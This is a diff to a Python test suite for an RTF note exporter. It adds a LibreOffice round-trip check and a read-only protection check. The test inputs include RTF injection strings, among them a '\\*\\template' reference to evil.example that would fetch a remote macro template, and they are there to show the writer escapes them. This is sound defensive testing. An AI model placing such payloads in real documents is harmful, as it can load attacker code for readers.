@@ -3,8 +3,11 @@ every character outside printable ASCII as `\\uN?` (signed 16-bit, surrogate pai
 BMP), line breaks as `\\par`, `\\uc1` kept, so that no note can smuggle in a control word; the
 text comes back exactly through the `striprtf` package; the download is an attachment with an
 RFC 6266 file name and cannot split a header."""
+import os
 import random
 import re
+import shutil
+import subprocess
 from datetime import timezone
 from urllib.parse import quote
 
@@ -18,7 +21,8 @@ from models import Contact
 
 # the control words kontor/rtf.py writes itself; nothing a note says may add another
 WRITER_WORDS = {"rtf", "ansi", "ansicpg", "deff", "uc", "fonttbl", "f", "fswiss", "info",
-                "title", "viewkind", "pard", "fs", "b", "i", "par", "tab", "u"}
+                "title", "readprot", "enforceprot", "protlevel", "viewkind", "pard", "fs", "b",
+                "i", "par", "tab", "u"}
 TOKENS = re.compile(r"\\([a-zA-Z]+)(-?\d+)?|\\([^a-zA-Z])|([{}])")
 
 
@@ -129,6 +133,35 @@ def test_everything_outside_printable_ascii_is_a_signed_16_bit_unicode_escape():
     assert all(32 <= byte <= 126 or byte == 10 for byte in document)
     numbers = [n for w, n in control_words(document.decode("ascii"))[0] if w == "u"]
     assert numbers and all(-32768 <= n <= 32767 for n in numbers)
+
+
+def test_libreoffice_opens_the_note_with_every_character_as_written(tmp_path):
+    """The real reader: LibreOffice converts the RTF to plain text, which must be the title,
+    the stamps and the texts exactly as written (SECURITY 32's texts among them)."""
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        if os.environ.get("CI"):
+            pytest.fail("LibreOffice (soffice) is missing: `make test` installs it")
+        pytest.skip("LibreOffice (soffice) is not installed; `make test` installs it")
+    texts = ["\\", "{", "}", "}{\\object", "😀", "é5", "first line\nsecond line",
+             "{\\*\\template http://evil.example/t.dotm}", "Søren Ærø € 가 \t tab"]
+    entries = [(f"24-11-2026 10:0{n} · Zoë", text) for n, text in enumerate(texts)]
+    source = tmp_path / "note.rtf"
+    source.write_bytes(rtf.document("Søren Ærø AS", entries, "Note, customer number 10001"))
+    subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
+                    "--headless", "--convert-to", "txt:Text (encoded):UTF8",
+                    "--outdir", str(tmp_path), str(source)],
+                   check=True, capture_output=True, timeout=180)
+    text = (tmp_path / "note.txt").read_text(encoding="utf-8-sig")
+    expected = "Søren Ærø AS\nNote, customer number 10001\n" + "".join(
+        f"\n{stamp}\n{body}\n" for stamp, body in entries)
+    assert text.replace("\r\n", "\n") == expected
+
+
+def test_the_document_asks_to_be_read_only():
+    words = control_words(rtf.document("T", [("s", "x")]).decode())[0]
+    assert ("readprot", None) in words
+    assert ("enforceprot", 1) in words and ("protlevel", 3) in words     # 3: read only
 
 
 def test_the_document_keeps_uc1_and_names_its_title():
